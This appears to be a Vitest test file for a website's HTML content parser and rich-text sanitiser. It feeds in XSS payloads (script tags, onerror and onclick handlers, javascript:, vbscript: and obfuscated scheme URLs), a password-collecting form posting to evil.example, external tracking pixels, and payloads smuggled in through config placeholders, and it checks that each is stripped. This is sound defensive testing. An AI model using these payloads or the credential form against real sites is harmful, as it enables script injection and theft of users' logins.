import { afterEach, describe, expect, it, vi } from 'vitest';
import { parseContentPage } from '../../src/content/parse-content-page';
import { sanitizeRichText } from '../../src/content/sanitize-rich-text';

function page({ head = '', body }: { head?: string; body: string }): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8" />${head}</head><body>${body}</body></html>`;
}

function fragment(markup: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = markup;
  return container;
}

describe('parseContentPage', () => {
  it('takes the content panel body, the title, the meta description and the nucleus flag', () => {
    const parsed = parseContentPage(
      page({
        head: `<title> Understanding your bill </title>
          <meta name="description" content="What your {provider} bill means." />
          <meta name="nucleus-content" content="true" />`,
        body: `<div class="root"><header>Site chrome</header>
          <div class="content-panel__body"><h2>Your bill</h2><p>Call {customerServicePhone}.</p></div>
          <div class="parsys"><p>Not this one</p></div></div>`,
      }),
    );
    expect(parsed.title).toBe('Understanding your bill');
    expect(parsed.description).toBe('What your Brightwell Energy bill means.');
    expect(parsed.nucleusContent).toBe(true);
    const content = fragment(parsed.markup);
    expect(content.querySelector('h2')?.textContent).toBe('Your bill');
    expect(content.textContent).toContain('Call 0330 088 0456.');
    expect(content.textContent).not.toContain('Not this one');
    expect(content.textContent).not.toContain('Site chrome');
  });

  it('falls back to the parsys area when there is no content panel body', () => {
    const parsed = parseContentPage(
      page({
        head: '<title>Carbon monoxide</title><meta name="nucleus-content" content="false" />',
        body: '<div class="aem-Grid"><div class="parsys"><p>From the parsys</p></div></div>',
      }),
    );
    expect(fragment(parsed.markup).textContent).toBe('From the parsys');
    expect(parsed.nucleusContent).toBe(false);
  });

  it('gives empty markup, and no nucleus flag, for a page without content', () => {
    const parsed = parseContentPage(page({ body: '<p>Nothing we know</p>' }));
    expect(parsed).toEqual({ markup: '', description: '', title: '', nucleusContent: false });
  });

  it('removes scripts, event handlers, javascript: URLs, frames and styles', () => {
    const parsed = parseContentPage(
      page({
        body: `<div class="content-panel__body">
          <p>Safe text</p>
          <script>window.pwned = true</script>
          <img src="x" onerror="window.pwned = true" alt="broken">
          <a href="javascript:window.pwned = true">Click me</a>
          <a href="JaVaScRiPt:alert(1)">Shout</a>
          <iframe src="https://example.com"></iframe>
          <svg><script>alert(1)</script></svg>
          <p onclick="window.pwned = true" style="color:red">Styled</p>
          <form action="javascript:alert(1)"><button formaction="javascript:alert(1)">Go</button></form>
        </div>`,
      }),
    );
    const content = fragment(parsed.markup);
    expect(content.querySelector('script')).toBeNull();
    expect(content.querySelector('iframe')).toBeNull();
    expect(parsed.markup).not.toMatch(/onerror|onclick|javascript:|style=/i);
    const links = [...content.querySelectorAll('a')];
    expect(links.map((link) => link.textContent)).toEqual(['Click me', 'Shout']);
    for (const link of links) expect(link.getAttribute('href')).toBeNull();
    expect(content.textContent).toContain('Safe text');
  });

  it('removes forms and every form control, keeping a nucleus form slot for the form scripts', () => {
    const parsed = parseContentPage(
      page({
        head: '<meta name="nucleus-content" content="true" />',
        body: `<div class="content-panel__body">
          <div class="nucleus-form-slot" data-nucleus-form="warm-home-discount-eligibility"></div>
          <form class="nucleus-form" action="https://evil.example/collect" method="post">
            <fieldset><legend>Your account</legend>
              <label for="password">Password</label>
              <input type="password" id="password" name="password" />
              <input type="image" src="/images/go.png" alt="Go" />
              <select name="bank"><option value="x">Bank</option></select>
              <textarea name="notes">Notes</textarea>
            </fieldset>
            <button type="submit" formaction="https://evil.example/">Log in</button>
          </form>
          <p>After the form</p>
        </div>`,
      }),
    );
    const content = fragment(parsed.markup);
    for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea']) {
      expect(content.querySelector(tag), tag).toBeNull();
    }
    expect(parsed.markup).not.toContain('evil.example');
    const slot = content.querySelector('[data-nucleus-form]');
    expect(slot?.getAttribute('data-nucleus-form')).toBe('warm-home-discount-eligibility');
    expect(slot?.className).toBe('nucleus-form-slot');
    expect(content.textContent).toContain('After the form');
    expect(parsed.nucleusContent).toBe(true);
  });

  it('keeps images of this site only, and no srcset anywhere', () => {
    const origin = window.location.origin;
    const parsed = parseContentPage(
      page({
        body: `<div class="content-panel__body">
          <img src="/images/relative-root.svg" alt="root" />
          <img src="images/relative.svg" alt="relative" />
          <img src="${origin}/images/absolute.svg" alt="absolute" srcset="https://evil.example/big.png 2x" />
          <img src="https://evil.example/pixel.png" alt="external" />
          <img src="//evil.example/pixel.png" alt="protocol-relative" />
          <img src="  HTTPS://EVIL.EXAMPLE/pixel.png" alt="shouting" />
          <img src="${origin}.evil.example/pixel.png" alt="lookalike" />
          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data" />
          <img alt="no source" />
          <picture><source srcset="https://evil.example/a.webp" type="image/webp" /><img src="/images/p.png" alt="picture" /></picture>
          <table background="https://evil.example/bg.png"><tr><td>Cell</td></tr></table>
        </div>`,
      }),
    );
    const content = fragment(parsed.markup);
    expect([...content.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual([
      'root',
      'relative',
      'absolute',
      'picture',
    ]);
    expect(content.querySelector('[srcset]')).toBeNull();
    expect(parsed.markup).not.toMatch(/srcset|evil\.example|background=/i);
    expect(content.textContent).toContain('Cell');
  });

  it('fills phone placeholders and keeps tel: links free of spaces', () => {
    const parsed = parseContentPage(
      page({
        body: '<div class="content-panel__body"><a href="tel:{gasEmergencyPhone}">{gasEmergencyPhone}</a></div>',
      }),
    );
    const link = fragment(parsed.markup).querySelector('a');
    expect(link?.getAttribute('href')).toBe('tel:0800111999');
    expect(link?.textContent).toBe('0800 111 999');
  });
});

describe('placeholders are filled before sanitising', () => {
  afterEach(() => {
    vi.unstubAllEnvs();
    vi.resetModules();
  });

  /** parseContentPage with the configuration read afresh from the stubbed VITE_* variables. */
  async function parseWithConfig(env: Record<string, string>, body: string) {
    for (const [name, value] of Object.entries(env)) vi.stubEnv(name, value);
    vi.resetModules();
    const module = await import('../../src/content/parse-content-page');
    return module.parseContentPage(
      page({ body: `<div class="content-panel__body">${body}</div>` }),
    );
  }

  it('sanitises what a placeholder brings into the markup', async () => {
    const parsed = await parseWithConfig(
      {
        VITE_PROVIDER_NAME:
          'Acme<img src=x onerror="window.pwned = true"><script>alert(1)</script>',
      },
      '<p>Welcome to {provider}.</p>',
    );
    const content = fragment(parsed.markup);
    expect(content.querySelector('script, [onerror]')).toBeNull();
    expect(parsed.markup).not.toMatch(/onerror|<script/i);
    expect(content.textContent).toContain('Welcome to Acme');
  });

  it('judges a placeholder inside an attribute by its filled value', async () => {
    const parsed = await parseWithConfig(
      {
        VITE_PROVIDER_NAME: 'https://evil.example/pixel.png',
        VITE_PHONE_CUSTOMER_SERVICE: 'javascript:alert(1)',
      },
      '<img src="{provider}" alt="logo" /><a href="{customerServicePhone}">Call</a>',
    );
    const content = fragment(parsed.markup);
    expect(content.querySelector('img')).toBeNull();
    expect(content.querySelector('a')?.hasAttribute('href')).toBe(false);
  });
});

describe('sanitizeRichText', () => {
  it('keeps only a, sup, p and b, and only the href attribute', () => {
    const clean = sanitizeRichText(
      '<p class="lead" onclick="x()">Prices change on the 1<sup>st</sup>.</p>' +
        '<div><b id="x">Bold</b> <i>italic</i> <a href="/myaccount" target="_blank" title="t">account</a></div>' +
        '<script>alert(1)</script><img src=x onerror=alert(1)>',
    );
    const content = fragment(clean);
    const tags = [...content.querySelectorAll('*')].map((element) => element.tagName.toLowerCase());
    expect(new Set(tags)).toEqual(new Set(['p', 'sup', 'b', 'a']));
    for (const element of content.querySelectorAll('*')) {
      const attributes = [...element.attributes].map((attribute) => attribute.name);
      expect(attributes.every((name) => name === 'href')).toBe(true);
    }
    expect(content.querySelector('a')?.getAttribute('href')).toBe('/myaccount');
    expect(content.textContent).toContain('italic');
  });

  it('drops javascript: links from rich text', () => {
    const content = fragment(sanitizeRichText('<p><a href="javascript:alert(1)">Go</a></p>'));
    expect(content.querySelector('a')?.hasAttribute('href')).toBe(false);
  });

  it('drops data: and vbscript: links, also behind whitespace or a capital scheme', () => {
    for (const href of [
      'data:text/html,x',
      ' JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      'vbscript:x',
    ]) {
      const content = fragment(sanitizeRichText(`<a href="${href}">Go</a>`));
      expect(content.querySelector('a')?.hasAttribute('href'), href).toBe(false);
    }
  });

  it('keeps web, mail, phone and relative links as written', () => {
    for (const href of [
      'https://example.com/a?b=1&c=2',
      'mailto:help@example.com',
      'tel:0800111999',
      '/contact-us',
      '#top',
    ]) {
      const content = fragment(sanitizeRichText(`<a href="${href.replace(/&/g, '&amp;')}">Go</a>`));
      expect(content.querySelector('a')?.getAttribute('href')).toBe(href);
    }
  });

  it('drops scripts, styles and frames with their content, and comments', () => {
    const clean = sanitizeRichText(
      '<p>Read<!-- note --><script>alert(1)</script><style>p{}</style><iframe srcdoc="x"></iframe>' +
        '<svg><script>alert(2)</script></svg><template><b>t</b></template> this</p>',
    );
    expect(clean).toBe('<p>Read this</p>');
  });

  it('escapes text and attribute values, so nothing written can become markup', () => {
    const clean = sanitizeRichText(
      '<p>1 &lt; 2 &amp; &lt;img src=x onerror=alert(1)&gt;</p><a href="/a&quot;onclick=&quot;x()">x</a>',
    );
    const content = fragment(clean);
    expect(content.querySelectorAll('img')).toHaveLength(0);
    expect(content.querySelector('p')?.textContent).toBe('1 < 2 & <img src=x onerror=alert(1)>');
    expect(content.querySelector('a')?.getAttribute('href')).toBe('/a"onclick="x()');
    expect(content.querySelector('a')?.hasAttribute('onclick')).toBe(false);
  });
});
